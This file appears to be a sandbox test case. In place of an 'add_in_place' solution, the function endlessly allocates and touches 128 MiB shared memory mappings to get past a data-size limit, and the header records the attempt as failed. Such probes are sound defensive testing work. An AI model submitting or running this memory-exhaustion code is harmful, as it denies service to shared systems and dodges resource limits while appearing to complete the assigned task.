# tries: take memory in shared mappings, which a limit on data does not see
# exercise: add_in_place
# verdict: failed
# cause: memory|crash|exception|timeout
import mmap


def add_in_place(y, x):
    kept = []
    while True:
        block = mmap.mmap(-1, 1 << 27)
        for page in range(0, 1 << 27, 4096):
            block[page] = 1
        kept.append(block)
